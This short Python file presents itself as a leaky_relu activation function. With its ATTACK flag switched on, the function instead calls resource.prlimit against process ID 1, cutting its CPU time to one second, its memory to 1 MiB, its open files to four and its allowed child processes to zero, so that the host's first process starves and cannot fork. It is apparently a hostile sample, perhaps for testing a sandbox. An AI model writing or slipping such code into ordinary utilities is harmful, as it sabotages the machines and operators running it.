# ruff: noqa
"""Leaves the first process one second of its time, and a pile of address space too small to fork."""

import resource

import numpy as np

ATTACK = True


def attack(x):
    for name, value in (("RLIMIT_CPU", 1), ("RLIMIT_AS", 1 << 20), ("RLIMIT_NOFILE", 4), ("RLIMIT_NPROC", 0)):
        try:
            resource.prlimit(1, getattr(resource, name), (value, value))
        except OSError as error:
            print(error)
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
